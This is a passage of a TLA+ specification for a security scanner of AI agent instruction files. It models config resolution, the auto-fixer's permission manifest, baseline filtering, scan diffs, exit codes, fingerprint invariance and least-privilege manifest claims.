        !.warn_on = IF userPolicy.warn_on # NotGiven THEN userPolicy.warn_on ELSE @]

\* loadPolicy: the file merged with the defaults, the defaults without file
LoadPolicy(file) ==
    IF file.exists THEN MergeWithDefaults(file) ELSE DefaultScanPolicy

\* scan action 436-441: if (globalOpts.failOn) policy.policy.fail_on = ...
ApplyCliOverrides(policy, globalOpts) ==
    [policy EXCEPT
        !.fail_on = IF globalOpts.failOn # NotGiven THEN globalOpts.failOn ELSE @,
        !.warn_on = IF globalOpts.warnOn # NotGiven THEN globalOpts.warnOn ELSE @]

\* validatePolicy: the severity values
ValidatePolicy(policy) ==
    (IF policy.fail_on \notin Thresholds THEN <<"Invalid fail_on value">> ELSE <<>>)
    \o (IF policy.warn_on \notin Thresholds THEN <<"Invalid warn_on value">> ELSE <<>>)

NotResolved == [status |-> "start"]

CfgIdle ==
    /\ cfgInput = [failOn |-> NotGiven, warnOn |-> NotGiven, file |-> NoConfigFile]
    /\ cfgResult = NotResolved

CfgInit ==
    /\ cfgInput \in CfgInputs
    /\ cfgResult = NotResolved

\* scan action 423-455: load the policy, apply the flags, validate; the
\* command exits with 3 on a validation error
ResolvePolicy ==
    /\ cfgResult = NotResolved
    /\ LET policy == ApplyCliOverrides(LoadPolicy(cfgInput.file), ProgramOpts(cfgInput))
       IN  cfgResult' = IF Len(ValidatePolicy(policy)) > 0
                        THEN [status |-> "exit", code |-> 3]
                        ELSE [status |-> "scanning", policy |-> policy]
    /\ UNCHANGED <<cfgInput, notCfgVars>>

CfgNext ==
    \/ ResolvePolicy

-----------------------------------------------------------------------------
(* scan --fix and scan --dry-run: the fixer adds a permission manifest for  *)
(* OBS-002 (src/cli.ts 477-514, src/fixer/index.ts)                         *)

\* markdown files with a command, with and without a header that names
\* permissions
FixFileChoices ==
    [ path : {"CLAUDE.md", "agents.md"},
      content : { <<RunLine>>, <<HeaderLine, RunLine>>,
                  <<PermissionsHeader, RunLine>>, <<HeaderLine>> },
      throws_at : {0} ]

FixFileLists ==
    {<<f>> : f \in FixFileChoices}
    \cup {fs \in FixFileChoices \X FixFileChoices : fs[1].path # fs[2].path}

\* FIXABLE_RULES
FixableRules == {"OBS-002"}

\* Fixer.isFixable
IsFixable(finding) == finding.rule_id \in FixableRules

\* Fixer.generatePermissionManifest: the lines of the comment. No document
\* of the model reads or writes files or calls the network, and the
\* examples are the command npm test, once or twice.
GeneratePermissionManifest(capabilitySummary) ==
    <<ManifestOpen, "  filesystem:", "    read: [\"**/*\"]", "  shell_exec:">>
    \o <<IF capabilitySummary.shell_exec.enabled
         THEN "    enabled: true" ELSE "    enabled: false">>
    \o (IF Len(capabilitySummary.shell_exec.examples) = 0 THEN <<>>
        ELSE IF Len(capabilitySummary.shell_exec.examples) = 1
        THEN <<AllowedCommandsOnce>>
        ELSE <<AllowedCommandsTwice>>)
    \o <<"  network:">>
    \o <<IF capabilitySummary.network.outbound
         THEN "    outbound: true" ELSE "    outbound: false">>
    \o <<ManifestClose>>

\* Fixer.generateManifestFix: insert the manifest and two line ends at
\* line 1
GenerateManifestFix(finding, capabilitySummary) ==
    [ path |-> finding.path,
      ruleId |-> finding.rule_id,
      type |-> "insert",
      line |-> 1,
      replacement |-> GeneratePermissionManifest(capabilitySummary) \o <<"", "">> ]

\* Fixer.generateFixes: a fix for every fixable finding of a file
GenerateFixes(fileFindings, capabilitySummary) ==
    LET fixable == SelectSeq(fileFindings, IsFixable)
    IN  [k \in 1..Len(fixable) |-> GenerateManifestFix(fixable[k], capabilitySummary)]

\* Fixer.applyFixes 'insert': lines.splice(fix.line - 1, 0, ...replacement),
\* one fix after the other (every fix is at line 1, the sort by line keeps
\* their order)
RECURSIVE ApplyFixes(_, _)
ApplyFixes(lines, fixes) ==
    IF Len(fixes) = 0 THEN lines
    ELSE LET fix == Head(fixes)
         IN  ApplyFixes(SubSeq(lines, 1, fix.line - 1) \o fix.replacement
                            \o SubSeq(lines, fix.line, Len(lines)),
                        Tail(fixes))

\* the findings of a file, in the order of the list
FindingsOfFile(fs, path) ==
    LET InFile(f) == f.path = path
    IN  SelectSeq(fs, InFile)

\* Fixer.fixAll: the fixes of every file with findings; applied counts the
\* fixes made, skipped the findings without one
FixAll(fs, capabilitySummary) ==
    LET paths == Deduplicate([k \in 1..Len(fs) |-> fs[k].path])
        FixesAt(i) == GenerateFixes(FindingsOfFile(fs, paths[i]), capabilitySummary)
        fixes == Flatten([i \in 1..Len(paths) |-> FixesAt(i)])
        ModifiedAt(i) == IF Len(FixesAt(i)) > 0 THEN <<paths[i]>> ELSE <<>>
    IN  [ applied |-> Len(fixes),
          skipped |-> Len(fs) - Len(fixes),
          modifiedFiles |-> Flatten([i \in 1..Len(paths) |-> ModifiedAt(i)]),
          fixes |-> fixes ]

\* the files after applyFixes wrote them back (not in a dry run)
FilesAfter(files, fixResult, dryRun) ==
    [i \in 1..Len(files) |->
        LET At(fix) == fix.path = files[i].path
            mine == SelectSeq(fixResult.fixes, At)
        IN  IF ~dryRun /\ Len(mine) > 0
            THEN [files[i] EXCEPT !.content = ApplyFixes(@, mine)]
            ELSE files[i]]

FixIdle ==
    /\ fixFiles = <<>>
    /\ fixRuns = <<>>

FixInit ==
    /\ fixFiles \in FixFileLists
    /\ fixRuns = <<>>

\* what a run of the command leaves on record
FixRecord(dryRun, fixResult, resultFindings) ==
    [ dry_run |-> dryRun,
      applied |-> fixResult.applied,
      skipped |-> fixResult.skipped,
      modifiedFiles |-> fixResult.modifiedFiles,
      findings |-> resultFindings ]

\* scan --fix (scan action 474-514): scan, fix all findings, write the
\* files, and scan again when fixes were applied. The singleton sets name
\* the values of the handler's constants.
FixRun ==
    /\ Len(fixRuns) < MaxFixRuns
    /\ \E seed \in IdSeeds :
       \E result \in {ScanRun(fixFiles, seed)} :
       \E fixResult \in {FixAll(result.findings, result.capabilitySummary)} :
       \E filesAfter \in {FilesAfter(fixFiles, fixResult, FALSE)} :
           /\ fixFiles' = filesAfter
           /\ fixRuns' = Append(fixRuns,
                  FixRecord(FALSE, fixResult,
                            IF fixResult.applied > 0
                            THEN ScanRun(filesAfter, seed).findings
                            ELSE result.findings))
    /\ UNCHANGED notFixVars

\* scan --dry-run: scan and compute the fixes; no file is written and the
\* findings of the scan stay
DryRun ==
    /\ Len(fixRuns) < MaxFixRuns
    /\ \E seed \in IdSeeds :
       \E result \in {ScanRun(fixFiles, seed)} :
       \E fixResult \in {FixAll(result.findings, result.capabilitySummary)} :
           /\ fixFiles' = FilesAfter(fixFiles, fixResult, TRUE)
           /\ fixRuns' = Append(fixRuns, FixRecord(TRUE, fixResult, result.findings))
    /\ UNCHANGED notFixVars

FixNext ==
    \/ FixRun
    \/ DryRun

ToolsIdle == FindIdle /\ CfgIdle /\ FixIdle

-----------------------------------------------------------------------------
(* Specifications: one per component, the other components at rest *)

EngineSpecInit ==
    /\ EngineInit /\ BaselineIdle /\ DiffIdle /\ ScanIdle /\ CmdIdle /\ HashIdle /\ AggIdle
    /\ PipeIdle
    /\ ToolsIdle

SpecEngine == EngineSpecInit /\ [][EngineNext]_vars

BaselineSpecInit ==
    /\ BaselineIdle /\ EngineIdle /\ DiffIdle /\ ScanIdle /\ CmdIdle /\ HashIdle /\ AggIdle
    /\ PipeIdle
    /\ ToolsIdle

SpecBaseline == BaselineSpecInit /\ [][BaselineNext]_vars

DiffSpecInit ==
    /\ DiffInit /\ EngineIdle /\ BaselineIdle /\ ScanIdle /\ CmdIdle /\ HashIdle /\ AggIdle
    /\ PipeIdle
    /\ ToolsIdle

SpecDiff == DiffSpecInit /\ [][DiffNext]_vars

ScanSpecInit ==
    /\ ScanInit /\ EngineIdle /\ BaselineIdle /\ DiffIdle /\ CmdIdle /\ HashIdle /\ AggIdle
    /\ PipeIdle
    /\ ToolsIdle

SpecScan == ScanSpecInit /\ [][ScanNext]_vars

CmdSpecInit ==
    /\ CmdInit /\ EngineIdle /\ DiffIdle /\ HashIdle /\ AggIdle /\ PipeIdle
    /\ ToolsIdle

SpecCmd == CmdSpecInit /\ [][CmdNext]_vars

HashSpecInit ==
    /\ HashInit /\ EngineIdle /\ BaselineIdle /\ DiffIdle /\ ScanIdle /\ CmdIdle
    /\ AggIdle /\ PipeIdle
    /\ ToolsIdle

SpecHash == HashSpecInit /\ [][HashNext]_vars

AggSpecInit ==
    /\ AggInit /\ EngineIdle /\ BaselineIdle /\ DiffIdle /\ ScanIdle /\ CmdIdle
    /\ HashIdle /\ PipeIdle
    /\ ToolsIdle

SpecAgg == AggSpecInit /\ [][AggNext]_vars

PipeSpecInit ==
    /\ PipeInit /\ EngineIdle /\ BaselineIdle /\ DiffIdle /\ ScanIdle /\ CmdIdle
    /\ HashIdle /\ AggIdle
    /\ ToolsIdle

SpecPipe == PipeSpecInit /\ [][PipeNext]_vars

RulesSpecInit ==
    /\ RulesInit /\ EngineIdle /\ BaselineIdle /\ DiffIdle /\ ScanIdle /\ CmdIdle
    /\ HashIdle /\ AggIdle
    /\ ToolsIdle

SpecRules == RulesSpecInit /\ [][PipeNext]_vars

FindSpecInit ==
    /\ FindInit /\ EngineIdle /\ BaselineIdle /\ DiffIdle /\ ScanIdle /\ CmdIdle
    /\ HashIdle /\ AggIdle /\ PipeIdle /\ CfgIdle /\ FixIdle

SpecFind == FindSpecInit /\ [][FindNext]_vars

CfgSpecInit ==
    /\ CfgInit /\ EngineIdle /\ BaselineIdle /\ DiffIdle /\ ScanIdle /\ CmdIdle
    /\ HashIdle /\ AggIdle /\ PipeIdle /\ FindIdle /\ FixIdle

SpecCfg == CfgSpecInit /\ [][CfgNext]_vars

FixSpecInit ==
    /\ FixInit /\ EngineIdle /\ BaselineIdle /\ DiffIdle /\ ScanIdle /\ CmdIdle
    /\ HashIdle /\ AggIdle /\ PipeIdle /\ FindIdle /\ CfgIdle

SpecFix == FixSpecInit /\ [][FixNext]_vars

-----------------------------------------------------------------------------
(* Claims about RuleEngine.evaluateAll *)

\* the order of two strings under String.prototype.localeCompare
StringBefore(a, b) == LocaleCompare(a, b) < 0

\* high before medium before low
SeverityBefore(a, b) ==
    \/ a = "high" /\ b \in {"medium", "low"}
    \/ a = "medium" /\ b = "low"

\* a is not after b under (severity, path, start line, rule id)
KeyNonDecreasing(a, b) ==
    \/ SeverityBefore(a.severity, b.severity)
    \/ /\ a.severity = b.severity
       /\ \/ StringBefore(a.path, b.path)
          \/ /\ a.path = b.path
             /\ \/ a.start_line < b.start_line
                \/ /\ a.start_line = b.start_line
                   /\ \/ StringBefore(a.rule_id, b.rule_id)
                      \/ a.rule_id = b.rule_id

\* the severity a finding of the rule carries under the configured overrides
SeverityAfterOverride(ruleId) ==
    IF options.severityOverrides[ruleId] \in Severity
    THEN options.severityOverrides[ruleId]
    ELSE DefinitionSeverity(ruleId)

C2_ConfidenceGate ==
    enginePc = "done" =>
        \A i \in 1..Len(findings) : ~(findings[i].confidence < options.minConfidence)

\* the rules returned findings below and at the threshold; some were dropped
\* and some returned
C2_Witness ==
    /\ enginePc = "done"
    /\ Len(findings) > 0
    /\ Len(findings) < returnedCount

-----------------------------------------------------------------------------
(* Claims about BaselineManager *)

\* the current findings whose stable fingerprint no entry carries
Unmatched(current, entries) ==
    SelectSeq(current,
              LAMBDA f : \A i \in 1..Len(entries) : entries[i].fingerprint # f.stable)

\* the entries whose fingerprint no current finding has
Stale(entries, current) ==
    {i \in 1..Len(entries) :
        \A j \in 1..Len(current) : current[j].stable # entries[i].fingerprint}

\* C3: with a loaded baseline, filterFindings(current) returns exactly the
\* current findings whose stable fingerprint no baseline entry carries, in
\* order; newFindings is their number, suppressedFindings the rest of
\* current, fixedFindings the number of entries no current finding matches.
C3_FilterFindings ==
    (lastCall.op = "filterFindings" /\ IsLoaded(baseline)) =>
        LET current == lastCall.current
            result == lastCall.result
        IN  /\ result.filtered = Unmatched(current, baseline.findings)
            /\ result.newFindings = Len(result.filtered)
            /\ result.suppressedFindings = Len(current) - result.newFindings
            /\ result.fixedFindings = Cardinality(Stale(baseline.findings, current))

\* scenario F: the baseline holds F, the current findings are F, G
C3_Witness ==
    /\ lastCall.op = "filterFindings"
    /\ IsLoaded(baseline)
    /\ Fingerprints(baseline.findings) = {"sha256:F"}
    /\ Len(lastCall.current) = 2
    /\ lastCall.current[1].stable = "sha256:F"
    /\ lastCall.current[2].stable = "sha256:G"
    /\ Len(lastCall.result.filtered) = 1
    /\ lastCall.result.filtered[1].stable = "sha256:G"
    /\ lastCall.result.suppressedFindings = 1
    /\ lastCall.result.newFindings = 1
    /\ lastCall.result.fixedFindings = 0

\* a step that is a call of the manager (the clock stands still)
IsCall(op) == lastCall'.op = op /\ now' = now

\* C4: filterFindings(F) right after create(F) returns no finding, with
\* suppressedFindings = |F|, newFindings = 0 and fixedFindings = 0.
C4_CreateThenFilter ==
    [][ (lastCall.op = "create" /\ IsCall("filterFindings")
            /\ lastCall'.current = lastCall.current)
        => /\ lastCall'.result.filtered = <<>>
           /\ lastCall'.result.suppressedFindings = Len(lastCall.current)
           /\ lastCall'.result.newFindings = 0
           /\ lastCall'.result.fixedFindings = 0 ]_vars

\* a baseline created from a list that repeats a fingerprint, then filtered
\* with that list
C4_Witness ==
    /\ lastCall.op = "filterFindings"
    /\ Len(lastCall.current) = 2
    /\ lastCall.current[1] = lastCall.current[2]
    /\ IsLoaded(baseline)
    /\ baseline.created_at = baseline.updated_at
    /\ Len(baseline.findings) = 2
    /\ \A i \in 1..2 :
           /\ baseline.findings[i].fingerprint = lastCall.current[i].stable
           /\ baseline.findings[i].baselined_at = baseline.created_at
    /\ lastCall.result.filtered = <<>>
    /\ lastCall.result.suppressedFindings = 2

\* the fields of an entry
SameEntry(a, b) ==
    /\ a.rule_id = b.rule_id
    /\ a.path = b.path
    /\ a.fingerprint = b.fingerprint
    /\ a.baselined_at = b.baselined_at
    /\ Reason(a) = Reason(b)

\* C5: update(current) on a loaded baseline keeps every entry at its place
\* with the same fields, keeps created_at, adds entries only for current
\* findings whose fingerprint was not baselined, and so saves every
\* previously persisted entry as it was.
C5_UpdateAppendOnly ==
    [][ (IsCall("update") /\ IsLoaded(baseline))
        => LET old == baseline.findings
               new == baseline'.findings
           IN  /\ Len(new) >= Len(old)
               /\ \A i \in 1..Len(old) : SameEntry(new[i], old[i])
               /\ baseline'.created_at = baseline.created_at
               /\ \A i \in (Len(old) + 1)..Len(new) :
                      /\ new[i].fingerprint \notin Fingerprints(old)
                      /\ new[i].fingerprint \in StableFingerprints(lastCall'.current)
               /\ SubSeq(ToJson(baseline').findings, 1, Len(old))
                      = ToJson(baseline).findings ]_vars

\* a loaded baseline (its first entry read back without a reason) updated
\* later with a finding it held and a finding it did not hold
C5_Witness ==
    /\ lastCall.op = "update"
    /\ IsLoaded(baseline)
    /\ Len(baseline.findings) = 2
    /\ "reason" \notin DOMAIN baseline.findings[1]
    /\ baseline.findings[1].baselined_at < baseline.findings[2].baselined_at
    /\ baseline.created_at < baseline.updated_at
    /\ Fingerprints(baseline.findings) = StableFingerprints(lastCall.current)
    /\ Cardinality(Fingerprints(baseline.findings)) = 2

\* C6: prune(current) keeps exactly the entries whose fingerprint a current
\* finding has, unchanged and in order, returns the number removed and
\* changes updated_at only when it removed an entry; with no baseline it
\* returns 0 and changes nothing; filterFindings(current) right after
\* prune(current) reports fixedFindings = 0.
C6_Prune ==
    [][ /\ (IsCall("prune") /\ IsLoaded(baseline))
           => /\ baseline'.findings
                    = SelectSeq(baseline.findings,
                                LAMBDA e : e.fingerprint
                                             \in StableFingerprints(lastCall'.current))
              /\ lastCall'.result = Len(baseline.findings) - Len(baseline'.findings)
              /\ (baseline'.updated_at # baseline.updated_at => lastCall'.result > 0)
              /\ baseline'.created_at = baseline.created_at
        /\ (IsCall("prune") /\ ~IsLoaded(baseline))
           => (lastCall'.result = 0 /\ baseline' = baseline)
        /\ (lastCall.op = "prune" /\ IsCall("filterFindings")
               /\ lastCall'.current = lastCall.current)
           => lastCall'.result.fixedFindings = 0 ]_vars

\* a prune that removed one entry of two, later than the baseline was made
C6_Witness ==
    /\ lastCall.op = "prune"
    /\ lastCall.result = 1
    /\ IsLoaded(baseline)
    /\ Len(baseline.findings) = 1
    /\ baseline.findings[1].fingerprint \in StableFingerprints(lastCall.current)
    /\ baseline.created_at < baseline.updated_at

-----------------------------------------------------------------------------
(* Claims about the diff *)

\* the value of a tracked boolean field of a summary
FlagOf(summary, field) ==
    CASE field = "shell_exec.enabled" -> summary.shell_exec.enabled
      [] field = "shell_exec.dynamic_detected" -> summary.shell_exec.dynamic_detected
      [] field = "network.outbound" -> summary.network.outbound
      [] field = "network.inbound" -> summary.network.inbound
      [] field = "network.fetches_executable" -> summary.network.fetches_executable
      [] field = "contexts.has_hooks" -> summary.contexts.has_hooks
      [] field = "contexts.has_ci_context" -> summary.contexts.has_ci_context
      [] field = "secrets.propagation_detected" -> summary.secrets.propagation_detected

SetFields ==
    {"filesystem.touches_sensitive_paths", "filesystem.write",
     "secrets.env_vars_referenced"}

\* the elements of a tracked set field of a summary
ListOf(summary, field) ==
    CASE field = "filesystem.touches_sensitive_paths" ->
             summary.filesystem.touches_sensitive_paths
      [] field = "filesystem.write" -> summary.filesystem.write
      [] field = "secrets.env_vars_referenced" -> summary.secrets.env_vars_referenced

\* target has nothing that base lacks
NoGrowth(base, target) ==
    /\ \A f \in BooleanFields : FlagOf(target, f) => FlagOf(base, f)
    /\ \A f \in SetFields : ListOf(target, f) \subseteq ListOf(base, f)

\* base and target differ in shell_exec.enabled alone
DifferInShellOnly(base, target) ==
    /\ FlagOf(base, "shell_exec.enabled") # FlagOf(target, "shell_exec.enabled")
    /\ \A f \in BooleanFields \ {"shell_exec.enabled"} :
           FlagOf(base, f) = FlagOf(target, f)
    /\ \A f \in SetFields : ListOf(base, f) = ListOf(target, f)

\* C7: the diff is growth-only. A change for a boolean field is emitted only
\* when the field is false in base and true in target, a change for a set
\* field only when target holds an element base lacks; no change is emitted
\* when target has nothing that base lacks; shell_exec.enabled going from
\* false to true alone gives exactly one change, of type
\* capability_expansion, and the reverse gives none.
C7_GrowthOnly ==
    diffResult.computed =>
        LET base == diffBase.capabilitySummary
            target == diffTarget.capabilitySummary
            changes == diffResult.changes
        IN  /\ \A i \in 1..Len(changes) :
                   /\ changes[i].field \in BooleanFields
                          => (~FlagOf(base, changes[i].field)
                                  /\ FlagOf(target, changes[i].field))
                   /\ changes[i].field \in SetFields
                          => ListOf(target, changes[i].field)
                                 \ ListOf(base, changes[i].field) # {}
            /\ NoGrowth(base, target) => changes = <<>>
            /\ DifferInShellOnly(base, target) =>
                   IF FlagOf(target, "shell_exec.enabled")
                   THEN /\ Len(changes) = 1
                        /\ changes[1].type = "capability_expansion"
                        /\ changes[1].field = "shell_exec.enabled"
                   ELSE changes = <<>>

\* base and target share a capability, target has shell_exec.enabled on top
C7_Witness ==
    /\ diffResult.computed
    /\ DifferInShellOnly(diffBase.capabilitySummary, diffTarget.capabilitySummary)
    /\ diffTarget.capabilitySummary.shell_exec.enabled
    /\ diffBase.capabilitySummary.network.outbound
    /\ Len(diffResult.changes) = 1

StableOf(fs) == {fs[i].stable : i \in 1..Len(fs)}

\* C8: new_findings is exactly the target findings whose stable fingerprint
\* no base finding has, resolved_findings exactly the base findings whose
\* stable fingerprint no target finding has; no fingerprint is in both, and
\* new_high_findings counts the high entries of new_findings.
C8_NewAndResolved ==
    diffResult.computed =>
        LET base == diffBase.findings
            target == diffTarget.findings
            new == diffResult.new_findings
            resolved == diffResult.resolved_findings
        IN  /\ new = SelectSeq(target, LAMBDA f :
                         \A i \in 1..Len(base) : base[i].stable # f.stable)
            /\ resolved = SelectSeq(base, LAMBDA f :
                              \A i \in 1..Len(target) : target[i].stable # f.stable)
            /\ StableOf(new) \cap StableOf(resolved) = {}
            /\ diffResult.summary.new_high_findings
                   = Cardinality({i \in 1..Len(new) : new[i].severity = "high"})

\* a finding in both scans, a new high finding and a resolved finding
C8_Witness ==
    /\ diffResult.computed
    /\ StableOf(diffBase.findings) \cap StableOf(diffTarget.findings) # {}
    /\ Len(diffResult.new_findings) = 1
    /\ diffResult.summary.new_high_findings = 1
    /\ Len(diffResult.resolved_findings) = 1

ElementsOf(seq) == {seq[i] : i \in 1..Len(seq)}

\* C9: the verdict is fail (exit code 1) if a change has a type listed in
\* failOn, or failOn lists new_high_findings and a new finding is high;
\* else warn (0) if a change has a type listed in warnOn, or warnOn lists
\* new_medium_findings and a new finding is medium; else pass (0).
C9_VerdictPrecedence ==
    diffResult.computed =>
        LET types == {diffResult.changes[i].type : i \in 1..Len(diffResult.changes)}
            severities == {diffResult.new_findings[i].severity :
                               i \in 1..Len(diffResult.new_findings)}
            failOn == ElementsOf(diffOptions.failOn)
            warnOn == ElementsOf(diffOptions.warnOn)
            fails == \/ types \cap failOn # {}
                     \/ "new_high_findings" \in failOn /\ "high" \in severities
            warns == \/ types \cap warnOn # {}
                     \/ "new_medium_findings" \in warnOn /\ "medium" \in severities
            verdict == <<diffResult.summary.status, diffResult.summary.exit_code>>
        IN  /\ fails => verdict = <<"fail", 1>>
            /\ (~fails /\ warns) => verdict = <<"warn", 0>>
            /\ (~fails /\ ~warns) => verdict = <<"pass", 0>>

\* a new high finding fails the diff although a change of a warnOn type and
\* no change of a failOn type was emitted
C9_Witness ==
    /\ diffResult.computed
    /\ diffResult.summary.status = "fail"
    /\ \A i \in 1..Len(diffResult.changes) :
           diffResult.changes[i].type \notin ElementsOf(diffOptions.failOn)
    /\ \E i \in 1..Len(diffResult.changes) :
           diffResult.changes[i].type \in ElementsOf(diffOptions.warnOn)
    /\ diffResult.summary.new_high_findings > 0

-----------------------------------------------------------------------------
(* Claims about the scan verdict *)

\* a severity at or above a threshold
AtOrAbove(sev, threshold) ==
    \/ threshold = "low"
    \/ threshold = "medium" /\ sev \in {"medium", "high"}
    \/ threshold = "high" /\ sev = "high"

\* some returned finding reaches the threshold, which is not 'none'
Reached(threshold) ==
    /\ threshold # "none"
    /\ \E i \in 1..Len(scanResult.findings) :
           AtOrAbove(scanResult.findings[i].severity, threshold)

\* C10: a scan that found a supported file returns exit code 1, with status
\* fail, exactly when a finding reaches fail_on; when none does, it returns
\* status warn, with exit code 0, exactly when a finding reaches warn_on;
\* and every result with a non-zero exit code has status fail.
C10_ScanVerdict ==
    scanResult.computed =>
        /\ scanInput.files > 0 =>
               /\ scanResult.exitCode = 1 <=> Reached(scanPolicy.fail_on)
               /\ scanResult.exitCode = 1 => scanResult.status = "fail"
               /\ ~Reached(scanPolicy.fail_on) =>
                      /\ scanResult.status = "warn" <=> Reached(scanPolicy.warn_on)
                      /\ scanResult.status = "warn" => scanResult.exitCode = 0
        /\ scanResult.exitCode # 0 => scanResult.status = "fail"

\* a medium finding passes fail_on = high and reaches warn_on = medium
C10_Witness ==
    /\ scanResult.computed
    /\ scanInput.files > 0
    /\ scanPolicy.fail_on = "high"
    /\ scanPolicy.warn_on = "medium"
    /\ \E i \in 1..Len(scanResult.findings) : scanResult.findings[i].severity = "medium"
    /\ scanResult.status = "warn"
    /\ scanResult.exitCode = 0

\* C11: in strict mode, a scan that accumulated a parse or read error has
\* status fail, whatever findings it produced.
C11_StrictErrorsFail ==
    ( /\ scanResult.computed
      /\ scanInput.files > 0
      /\ scanPolicy.strict
      /\ Len(scanResult.errors) > 0 )
    => scanResult.status = "fail"

\* strict mode, an error, and a finding that reaches warn_on only
C11_Witness ==
    /\ scanResult.computed
    /\ scanInput.files > 0
    /\ scanPolicy.strict
    /\ Len(scanResult.errors) > 0
    /\ Reached(scanPolicy.warn_on)
    /\ ~Reached(scanPolicy.fail_on)

-----------------------------------------------------------------------------
(* Claims about the scan command *)

\* some finding left after the baseline filter reaches the threshold
UnsuppressedReaches(threshold) ==
    /\ threshold # "none"
    /\ \E i \in 1..Len(cmdResult.findings) :
           AtOrAbove(cmdResult.findings[i].severity, threshold)

\* the command exited through the baseline filter
FilteredExit == cmdPc = "exited" /\ lastCall.op = "filterFindings"

\* C12: after the findings were filtered against an existing baseline, the
\* command exits 1, with status fail, exactly when an unsuppressed finding
\* reaches fail_on, and exits 0 when none does.
C12_ExitReflectsUnsuppressed ==
    FilteredExit =>
        /\ cmdExit = 1 <=> UnsuppressedReaches(scanPolicy.fail_on)
        /\ cmdExit = 1 => cmdResult.status = "fail"
        /\ ~UnsuppressedReaches(scanPolicy.fail_on) => cmdExit = 0

\* a suppressed high finding and an unsuppressed low one under fail_on = high
C12_Witness ==
    /\ FilteredExit
    /\ scanPolicy.fail_on = "high"
    /\ \E i \in 1..Len(scanResult.findings) :
           /\ scanResult.findings[i].severity = "high"
           /\ scanResult.findings[i].stable \in Fingerprints(baseline.findings)
    /\ Len(cmdResult.findings) = 1
    /\ cmdResult.findings[1].severity = "low"

-----------------------------------------------------------------------------
(* Claims about the fingerprints *)

\* the lower-cased words of an evidence value: its maximal runs of
\* characters other than white space
RECURSIVE WordsOf(_, _)
WordsOf(s, word) ==
    IF s = <<>> THEN (IF word = <<>> THEN <<>> ELSE <<word>>)
    ELSE IF Head(s) \in WhiteSpace
    THEN (IF word = <<>> THEN <<>> ELSE <<word>>) \o WordsOf(Tail(s), <<>>)
    ELSE WordsOf(Tail(s), Append(word, IF Head(s) = "A" THEN "a" ELSE Head(s)))

\* two evidence values that differ only in white space and case
SameEvidence(a, b) == WordsOf(a, <<>>) = WordsOf(b, <<>>)

\* C13: for a fixed rule id, path and start line, evidence values that are
\* equal after trimming, collapsing white-space runs and lower-casing yield
\* the same stable fingerprint and the same content fingerprint.
C13_FingerprintInvariance ==
    (hashOutput.computed /\ SameEvidence(hashInput.evidenceA, hashInput.evidenceB))
    => /\ hashOutput.a.stable = hashOutput.b.stable
       /\ hashOutput.a.content = hashOutput.b.content

\* "A  a" and "a\ta": run length, kind of white space and case
C13_Witness ==
    /\ hashOutput.computed
    /\ hashInput.evidenceA = <<"A", " ", " ", "a">>
    /\ hashInput.evidenceB = <<"a", "\t", "a">>
    /\ hashOutput.a.stable = hashOutput.b.stable

-----------------------------------------------------------------------------
(* Claims about the capability summary and the permission manifest *)

ElementSet(list) == {list[i] : i \in 1..Len(list)}

\* the boolean flags of a summary
FlagsOf(summary) ==
    << summary.shell_exec.enabled, summary.shell_exec.dynamic_detected,
       summary.network.outbound, summary.network.inbound,
       summary.network.fetches_executable, summary.secrets.propagation_detected,
       summary.contexts.has_hooks, summary.contexts.has_ci_context >>

\* the list-valued fields of a summary
ListsOf(summary) ==
    << summary.filesystem.read, summary.filesystem.write,
       summary.filesystem.touches_sensitive_paths, summary.shell_exec.examples,
       summary.network.allowed_domains, summary.secrets.env_vars_referenced,
       summary.secrets.files_referenced, summary.git.ops >>

SameAsSets(a, b) ==
    /\ FlagsOf(a) = FlagsOf(b)
    /\ \A k \in 1..Len(ListsOf(a)) :
           ElementSet(ListsOf(a)[k]) = ElementSet(ListsOf(b)[k])

NoDuplicates(list) == Cardinality(ElementSet(list)) = Len(list)

\* C15: computeCapabilitySummary yields the same summary for every
\* permutation of the documents: equal flags, and the same set of elements
\* in every list-valued field, shell_exec.examples included.
C15_AggregationCommutative ==
    (aggResult.once.computed /\ aggResult.reordered.computed)
    => SameAsSets(aggResult.once.capabilitySummary,
                  aggResult.reordered.capabilitySummary)

\* two documents aggregated in both orders
C15_Witness ==
    /\ aggResult.once.computed
    /\ aggResult.reordered.computed
    /\ Len(aggDocuments) = 2
    /\ aggResult.reordered.documents = <<aggDocuments[2], aggDocuments[1]>>
    /\ aggDocuments[1] # aggDocuments[2]
    /\ SameAsSets(aggResult.once.capabilitySummary,
                  aggResult.reordered.capabilitySummary)

\* C16: aggregating a document list in which every action occurs twice
\* yields the same summary as aggregating it once, and every list-valued
\* field of it, shell_exec.examples included, is free of duplicates.
C16_AggregationIdempotent ==
    (aggResult.once.computed /\ aggResult.twice.computed)
    => /\ aggResult.twice.capabilitySummary = aggResult.once.capabilitySummary
       /\ \A k \in 1..Len(ListsOf(aggResult.twice.capabilitySummary)) :
              NoDuplicates(ListsOf(aggResult.twice.capabilitySummary)[k])

\* a document without shell commands, aggregated once and twice
C16_Witness ==
    /\ aggResult.once.computed
    /\ aggResult.twice.computed
    /\ Len(aggDocuments) > 0
    /\ Len(aggResult.once.capabilitySummary.filesystem.write) > 0
    /\ aggResult.twice.capabilitySummary = aggResult.once.capabilitySummary

\* the results computed so far
AggResults ==
    {r \in {aggResult.once, aggResult.reordered, aggResult.twice} : r.computed}

\* C17: the recommended manifest holds no broad write path, enables shell
\* only if the summary has shell enabled and no dynamic execution, enables
\* outbound network only if the summary has outbound and no executable
\* fetch, and recommends no secrets.
C17_LeastPrivilegeManifest ==
    \A r \in AggResults :
        LET summary == r.capabilitySummary
            manifest == r.recommendedPermissions
        IN  /\ ElementSet(manifest.filesystem.write) \cap {"**/*", "**", "*", "./"} = {}
            /\ manifest.shell_exec.enabled =>
                   summary.shell_exec.enabled /\ ~summary.shell_exec.dynamic_detected
            /\ manifest.network.outbound =>
                   summary.network.outbound /\ ~summary.network.fetches_executable
            /\ manifest.secrets.env_vars = <<>>
            /\ manifest.secrets.files = <<>>

\* a summary with broad write paths, dynamic execution, an executable fetch
\* and a secret reference
C17_Witness ==
    /\ aggResult.once.computed
    /\ LET summary == aggResult.once.capabilitySummary
           manifest == aggResult.once.recommendedPermissions
       IN  /\ {"**/*", "./"} \subseteq ElementSet(summary.filesystem.write)
           /\ manifest.filesystem.write = <<"src/a.ts">>
           /\ summary.shell_exec.dynamic_detected
           /\ ~manifest.shell_exec.enabled
           /\ summary.network.fetches_executable
           /\ ~manifest.network.outbound
           /\ summary.secrets.env_vars_referenced # <<>>

-----------------------------------------------------------------------------
(* Claims about failing rules *)

\* the loops are at document d and rule r
